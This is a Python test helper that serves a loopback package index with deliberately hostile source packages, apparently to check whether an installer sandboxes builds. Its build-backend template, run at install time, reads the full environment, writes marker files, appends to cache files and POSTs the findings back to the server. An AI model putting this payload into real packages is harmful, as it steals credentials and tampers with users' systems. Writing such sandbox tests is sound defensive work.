"""A package index on loopback, with packages that attack the installer."""

import base64
import contextlib
import hashlib
import http.server
import io
import json
import tarfile
import threading
import zipfile
from typing import Any

# Runs while the package is built: tries to read and write, and reports what it could reach.
BACKEND = """
import json, os, urllib.request

def attack():
    about = {{"uid": os.getuid(), "environment": dict(os.environ), "seen": [], "written": []}}
    for path in {places!r}:
        if os.path.isdir(path) and os.listdir(path) or os.path.isfile(path):
            about["seen"].append(path)
        try:
            place = os.path.join(path, "owned") if os.path.isdir(path) else path + ".owned"
            open(place, "w").close()
            about["written"].append(path)
        except OSError:
            pass
    for folder, _, names in os.walk({cache!r}):
        for name in names:
            try:
                with open(os.path.join(folder, name), "ab") as file:
                    file.write(b"# owned\\n")
                about["written"].append(os.path.join(folder, name))
            except OSError:
                pass
    body = json.dumps(about).encode()
    urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open(
        urllib.request.Request({url!r}, body, method="POST"))

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import zipfile
    attack()
    name = "{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        about = "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n"
        wheel.writestr("{name}.py", "")
        wheel.writestr("{name}-1.0.dist-info/METADATA", about)
        wheel.writestr("{name}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nTag: py3-none-any\\n")
        wheel.writestr("{name}-1.0.dist-info/RECORD", "")
    return name
"""
PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'


class Index:
    """An index with files, and the reports of the attacking packages."""

    def __init__(self):
        self.files: dict[str, bytes] = {}
        self.reports: list[Any] = []
        self.asked: list[str] = []
        index = self

        class Answers(http.server.BaseHTTPRequestHandler):
            """The simple index of PEP 503, which also accepts reports."""

            def do_GET(self):
                index.answer(self)

            def do_HEAD(self):
                index.answer(self)

            def do_POST(self):
                length = int(self.headers["Content-Length"])
                index.reports.append(json.loads(self.rfile.read(length)))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_):
                """Be silent."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answers)
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()
        self.wheel("pip", {"pip.py": ""})

    @property
    def url(self):
        return f"http://127.0.0.1:{self._server.server_port}"

    def answer(self, request):
        """A page with links, or a file."""
        path = request.path.strip("/")
        self.asked.append(path)
        if path in self.files:
            return self._answer(request, self.files[path])
        name = path.removeprefix("simple/")
        versions = tuple(f"{name}-{version}{end}" for version in ("1.0", "2.0") for end in ".-")
        files = [file for file in self.files if file.startswith(versions)]
        links = "".join(f'<a href="/{file}">{file}</a>' for file in files)
        if not files:
            request.send_error(404)
            return None
        return self._answer(request, f"<html><body>{links}</body></html>".encode(), "text/html")

    def _answer(self, request, content, kind="application/octet-stream"):
        request.send_response(200)
        request.send_header("Content-Type", kind)
        request.send_header("Content-Length", str(len(content)))
        request.end_headers()
        with contextlib.suppress(ConnectionError):
            if request.command == "GET":
                request.wfile.write(content)

    def wheel(self, name, files, requires=(), version="1.0"):
        """A wheel with these files and a correct `RECORD`, which requires others."""
        about = f"{name}-{version}.dist-info"
        metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
        required = "".join(f"Requires-Dist: {other}\n" for other in requires)
        files = files | {
            f"{about}/METADATA": f"{metadata}{required}",
            f"{about}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        }
        rows = [f"{path},{_digest(text)},{len(text.encode())}" for path, text in files.items()]
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as wheel:
            for path, text in files.items():
                wheel.writestr(path, text)
            wheel.writestr(f"{about}/RECORD", "\n".join([*rows, f"{about}/RECORD,,"]))
        self.files[f"{name}-{version}-py3-none-any.whl"] = packed.getvalue()

    def source(self, name, places, cache):
        """A package that has to be built, and reports what it could reach."""
        backend = BACKEND.format(
            name=name, places=[*map(str, places)], cache=str(cache), url=f"{self.url}/told"
        )
        about = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w:gz") as archive:
            files = {"pyproject.toml": PYPROJECT, "backend.py": backend, "PKG-INFO": about}
            for path, text in files.items():
                member = tarfile.TarInfo(f"{name}-1.0/{path}")
                member.size = len(text.encode())
                archive.addfile(member, io.BytesIO(text.encode()))
        self.files[f"{name}-1.0.tar.gz"] = packed.getvalue()

    def close(self):
        """Stop the server."""
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


def _digest(text):
    digest = hashlib.sha256(text.encode()).digest()
    return "sha256=" + base64.urlsafe_b64encode(digest).rstrip(b"=").decode()
